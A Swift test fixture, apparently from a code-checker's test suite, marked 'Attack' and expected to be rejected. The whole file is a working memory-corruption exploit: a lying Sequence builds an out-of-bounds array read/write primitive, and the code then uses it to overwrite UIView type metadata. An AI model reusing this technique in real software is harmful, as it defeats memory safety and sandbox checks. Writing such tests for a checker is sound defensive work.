// Attack: a local type conforms to a protocol by a function that lends a pointer.
// Exercise: 3
// Expect: notAccepted
// Held by: the index lists local types
import UIKit

protocol Lender: MutableCollection {
    associatedtype Place
    mutating func withContiguousMutableStorageIfAvailable<R>(_ body: (inout Place) throws -> R) rethrows -> R?
}

final class Mark { var first = 0x1357_9BDF_0246_8ACE, second = 0x7654_3210_89AB_CDEF }

enum Memory {
    nonisolated(unsafe) static var words: [Int] = []
    nonisolated(unsafe) static var base = 0
    nonisolated(unsafe) static var marks: [Mark] = []
    static func lie() {
        struct Probe: Lender {
            var startIndex: Int { 0 }
            var endIndex: Int { 0 }
            func index(after i: Int) -> Int { i + 1 }
            subscript(i: Int) -> Int { get { 0 } set {} }
        }
        struct Liar: Sequence {
            struct Iterator: IteratorProtocol { mutating func next() -> Int? { nil } }
            func makeIterator() -> Iterator { Iterator() }
            var underestimatedCount: Int { 0 }
            func _copyContents(initializing place: Probe.Place) -> (Iterator, Int) { (Iterator(), 1 << 62) }
        }
        words.append(contentsOf: Liar())
    }
    static func prepare() {
        words = [1, 2, 3]
        lie()
        for _ in 0..<2000 { marks.append(Mark()) }
        var index = 0
        while words[index] != 0x1357_9BDF_0246_8ACE || words[index + 1] != 0x7654_3210_89AB_CDEF { index += 1 }
        let values = Dictionary(uniqueKeysWithValues: marks.map { (UInt(bitPattern: ObjectIdentifier($0)), $0) })
        words[index] = 77
        let found = values.first { $0.value.first == 77 }!
        base = Int(found.key) + 16 - index * 8
    }
    static subscript(address: Int) -> Int {
        get { words[((address &- base) >> 3) & (1 << 61 - 1)] }
        set { words[((address &- base) >> 3) & (1 << 61 - 1)] = newValue }
    }
    static let kinds: Int = {
        prepare()
        return Int(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23928
    }()
    nonisolated(unsafe) static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let place = Memory.kinds
        Memory.old = Memory[place]
        Memory[place] = 0
        defer { Memory[place] = Memory.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Memory[Memory.kinds] = Memory.old
        return super.point(inside: point, with: event)
    }
}
